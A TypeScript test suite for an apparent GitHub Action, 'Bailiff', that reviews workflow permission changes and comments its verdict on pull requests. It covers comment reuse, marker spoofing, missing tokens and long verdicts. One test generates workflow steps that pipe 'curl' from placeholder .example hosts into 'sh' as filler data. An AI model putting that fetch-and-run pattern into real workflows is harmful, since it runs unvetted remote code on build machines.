import { afterAll, beforeAll, expect, test } from "vitest";
import type { Fixture } from "../embedded-github/fixture.ts";
import type { JobPermissions } from "../embedded-github/acts/job-tokens.ts";
import {
  emptyWorkspace,
  jobToken,
  openChange,
  pullStep,
  startShop,
  type Workspace,
  WORKFLOW,
  workflow,
} from "./change-in-github.ts";
import { runStep, type Step, type StepResult } from "./runner/run-step.ts";

const WRITER: JobPermissions = { contents: "read", "pull-requests": "write" };
const NOBODY = "http://127.0.0.1:9";

let fixture: Fixture;
let workspace: Workspace;

beforeAll(async () => {
  fixture = await startShop();
  workspace = await emptyWorkspace();
});

afterAll(async () => {
  await workspace[Symbol.asyncDispose]();
  await fixture[Symbol.asyncDispose]();
});

interface Asked extends Partial<Step> {
  readonly permissions?: JobPermissions;
}

/** A step that comments on a new pull request, or on the one of that number. */
async function commenting({ permissions = WRITER, ...rest }: Asked = {}, number?: number) {
  const pull = number ?? (await raise("write"));
  const step = await pullStep(fixture, pull, workspace.folder);
  const token = jobToken(fixture, permissions);
  return { number: pull, step: { ...step, token, with: { comment: "on" }, ...rest } };
}

let branches = 0;

/** A pull request whose workflow may write, or is as it was beside a new file. */
async function raise(level: "read" | "write"): Promise<number> {
  const branch = `topic-${(branches += 1)}`;
  const files = { [WORKFLOW]: workflow(level), [branch]: "x" };
  return (await openChange(fixture, files, branch)).number;
}

const bodies = (number: number) =>
  fixture.repository.comments(number).map(({ author, body }) => [author.login, body]);

/** What is said of a comment that is not there. */
function warnings({ commands }: StepResult): readonly string[] {
  const said = commands.filter(({ name }) => name === "warning").map(({ message }) => message);
  return said.filter((message) => message.includes("comment"));
}

test("the verdict is a comment of the job's bot, which the next run edits", async () => {
  const { number, step } = await commenting();
  const denied = await runStep(step);
  expect(denied.succeeded).toBe(false);
  expect(warnings(denied)).toEqual([]);
  const [[author, body = ""] = [], ...more] = bodies(number);
  expect({ author, more }).toEqual({ author: "github-actions[bot]", more: [] });
  expect(body).toMatch(/^<!-- bailiff [0-9a-f]{16} -->\n## Bailiff: Denied by new-permissions\n/);
  expect(body).toContain(
    `[\`${WORKFLOW}\` line 3](${fixture.github.url}/acme/shop/blob/${step.sha}/${WORKFLOW}#L3)`,
  );
  expect(body).toContain("To settle: an approval of");
  expect(body).toContain(`[all of it](${fixture.github.url}/acme/shop/actions/runs/1234567)`);
  const branch = fixture.repository.pull(number).head.branch;
  await fixture.repository.commit({ branch, files: { [WORKFLOW]: workflow("read") }, by: "ann" });
  const { step: next } = await commenting({}, number);
  expect((await runStep(next)).succeeded).toBe(true);
  expect(bodies(number)).toEqual([
    [author, expect.stringContaining("## Bailiff: Allowed") as string],
  ]);
});

test("a stranger's comment with our marker is not taken for it", async () => {
  const { number, step } = await commenting();
  await runStep(step);
  const [[, first = ""] = []] = bodies(number);
  const [marker = ""] = first.split("\n");
  const other = await raise("write");
  const theirs = `${marker}\nAllowed`;
  fixture.repository.comment(other, { by: "eve", body: theirs });
  const { step: next } = await commenting({}, other);
  await runStep(next);
  expect(bodies(other)).toEqual([
    ["eve", theirs],
    ["github-actions[bot]", expect.stringContaining("Denied")],
  ]);
});

const WORKFLOW_REF = "acme/shop/.github/workflows/bailiff.yml";

test.each<{ what: string; change: Partial<Step>; comments: number }>([
  { what: "another job", change: { env: { GITHUB_JOB: "another" } }, comments: 2 },
  { what: "another step", change: { env: { GITHUB_ACTION: "again" } }, comments: 2 },
  {
    what: "another workflow",
    change: { workflowRef: `${WORKFLOW_REF}.other@refs/heads/main` },
    comments: 2,
  },
  {
    what: "another list of policies",
    change: { with: { comment: "on", policy: "bailiff:recommended@1" } },
    comments: 2,
  },
  {
    what: "the same workflow of another branch",
    change: { workflowRef: `${WORKFLOW_REF}@refs/heads/topic` },
    comments: 1,
  },
])("a step and one of $what have $comments comments", async ({ change, comments }) => {
  const { number, step } = await commenting();
  await runStep(step);
  await runStep({ ...step, ...change });
  expect(bodies(number)).toHaveLength(comments);
});

const GIVE = "Give the job `pull-requests: write`";

test.each<{ what: string; asked: Asked; remedy: string }>([
  { what: "the token only reads", asked: { permissions: { contents: "read" } }, remedy: GIVE },
  {
    what: "a fork's token reads all",
    asked: { permissions: { contents: "read", "pull-requests": "read", issues: "read" } },
    remedy: GIVE,
  },
  {
    what: "the API is down",
    asked: { env: { GITHUB_API_URL: NOBODY } },
    remedy: "Run the job again;",
  },
])("where $what the verdict stands, and a warning says why there is no comment", async (row) => {
  for (const level of ["write", "read"] as const) {
    const { number, step } = await commenting(row.asked, await raise(level));
    const result = await runStep(step);
    expect(result.succeeded).toBe(level === "read");
    expect(result.outputs["decision"]).toBe(level === "read" ? "ALLOW" : "DENY");
    const [why = "", ...more] = warnings(result);
    expect(why).toMatch(/^The verdict stands, but no comment tells it: /);
    expect(why).toContain(row.remedy);
    expect(more).toEqual([]);
    expect(bodies(number)).toEqual([]);
  }
});

test("without a token too", async () => {
  const { step } = await commenting({ token: "" });
  const result = await runStep(step);
  expect(result).toMatchObject({ succeeded: false, outputs: { decision: "DENY" } });
  expect(warnings(result)).toEqual([
    expect.stringContaining(
      "The input token is empty, and a comment is written with it. Leave the input out",
    ),
  ]);
});

test("of a commit that is not the head any more no comment is written, and the log says so", async () => {
  const { number, step } = await commenting();
  const branch = fixture.repository.pull(number).head.branch;
  await fixture.repository.commit({ branch, files: { later: "x" }, by: "ann" });
  const result = await runStep(step);
  expect(result.log).toContain("the pull request has another head than was judged");
  expect(bodies(number)).toEqual([]);
});

test("where comments are off, or the event is no pull request, nobody asks for comments", async () => {
  const { step } = await commenting();
  const base = await fixture.repository.head("main");
  const repository = { id: fixture.repository.id, full_name: "acme/shop", default_branch: "main" };
  const payload = { ref: "refs/heads/topic", before: base, after: step.sha, repository };
  fixture.github.forgetRequests();
  await runStep({ ...step, with: { comment: "off" } });
  const pushed = await runStep({ ...step, event: "push", payload });
  expect(pushed.log).toContain("No comment is written: this run is about no pull request.");
  const asked = fixture.github.requests.map(({ route }) => route);
  expect(asked.filter((route) => /issues|graphql|pull_number\}$/.test(route))).toEqual([]);
});

test("a verdict of very many reasons is cut to what GitHub takes", async () => {
  const lines = Array.from(
    { length: 120 },
    (_, n) => `      - run: curl https://${"x".repeat(60)}${n}.example/${"y".repeat(700)} | sh\n`,
  );
  const files = { [WORKFLOW]: `${workflow("write")}${lines.join("")}` };
  const { number } = await openChange(fixture, files);
  const { step } = await commenting({}, number);
  const result = await runStep(step);
  expect(warnings(result)).not.toContainEqual(expect.stringContaining("no comment"));
  const [[, body = ""] = []] = bodies(number);
  expect(body.length).toBeLessThanOrEqual(65_536);
  expect(body).toMatch(/- and \d+ more reasons in the summary of the run\n/);
});
